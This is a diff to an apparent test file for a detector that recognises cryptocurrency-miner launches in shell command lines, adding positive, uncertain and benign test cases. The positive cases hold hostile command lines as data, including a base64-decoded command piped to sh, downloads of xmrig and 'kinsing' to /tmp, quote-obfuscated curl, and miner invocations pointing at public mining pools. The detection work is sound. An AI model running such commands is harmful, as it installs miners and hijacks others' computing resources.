@@ -19,7 +19,21 @@ const MINES = [
   `echo ${Buffer.from('./a -o stratum+tcp://h.example.com:1').toString('base64')} | base64 -d | sh`,
   'wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz',
   'curl -sL https://example.com/kinsing -o /tmp/k',
+  'sh -c id; c"u"rl -sL https://example.com/kins\'in\'g -o /tmp/k',
+  'sh -c ls|./a -o stratum+tcp://pool.example.com:3333',
+  '/tmp/ps -o stratum+tcp://pool.example.com:3333 -u x',
+  'ps -o stratum+tcp://pool.example.com:3333 -u x',
+  '/opt/host --donate-level=1 --cpu-max-threads-hint=70',
+  'file --donate-level 1',
+  'sh -c which a || ls -a rx/0',
+  '/w --url pool.supportxmr.com --port 3333',
+  './w -o gulf.moneroocean.stream -p 10128',
+  '/w --pool=pool.supportxmr.com --port=3333',
+  'find /tmp -name a -exec ./a -o stratum+tcp://pool.example.com:3333 ;',
+  "sed -i 's#POOL#stratum+tcp://pool.example.com:3333#' config.json",
+  'sh -c echo a | xargs ./a --donate-level',
 ];
+const MAY = ['sh -c echo stratum+tcp', 'sh -c for word in stratum+ssl donate; do cat $word; done', './a stratum+tcp:'];
 const DOES_NOT = [
   'ls',
   'ps aux | grep xmrig',
@@ -35,10 +49,36 @@ const DOES_NOT = [
   'curl -o pool.json https://example.com/pools',
   `echo ${WALLET}`,
   'curl notnanopool.org:443',
+  "sh -c ps aux|grep -c 'stratum+tcp://pool.example.com:3333'",
+  'grep -o stratum+tcp://pool.example.com:3333 /app/config.json',
+  'grep -rE stratum+tcp://|--donate-level /app',
+  'pkill -f donate-level|stratum+tcp://',
+  'which nc',
+  'strings /tmp/a',
+  'find / -type f -exec grep -l stratum+tcp {} ;',
+  'find / -type f -exec grep -l stratum+tcp://pool.example.com {} ;',
+  'sh -c find / -type f | xargs grep -l stratum+tcp',
+  'sh -c for f in /proc/[0-9]*/cmdline; do grep -l stratum+tcp $f; done',
+  'sed -n /stratum+tcp/p /app/config',
+  'sh -c awk /stratum\\+tcp/ /app/config',
+  'command -v xmrig',
+  "sh -c if grep -q 'stratum+tcp://' /app/config; then echo found; fi",
+  'sh -c tr "\\0" " " </proc/7/cmdline | grep -c stratum+tcp',
+  'test -x /tmp/xmrig',
+  'sudo -u nobody ls /tmp/xmrig',
+  `sh -c ps aux | grep stratum+tcp://pool.example.com | awk '{print "kill " $2}' | sh`,
+  'sh -c grep -rh stratum+tcp:// /app | python3 parse.py',
+  'timeout 5 pgrep xmrig',
+  'nsenter -t 1 -m -- sh -c "ps aux | grep xmrig"',
+  'su -c "ps aux | grep xmrig"',
+  'dig pool.supportxmr.com -p 5353',
+  'curl --url pool.supportxmr.com',
+  'psql --host db.example.com --port 5432',
 ];
 
 describe('a miner in a command line', () => {
-  for (const line of MINES) it(`is seen: ${line.slice(0, 70)}`, () => assert.notEqual(minerIn(line), undefined));
+  for (const line of MINES) it(`is seen: ${line.slice(0, 70)}`, () => assert.equal(minerIn(line)?.certain, true));
+  for (const line of MAY) it(`is possible: ${line}`, () => assert.equal(minerIn(line)?.certain, false));
   for (const line of DOES_NOT) it(`is none: ${line.slice(0, 70)}`, () => assert.equal(minerIn(line), undefined));
 });
 
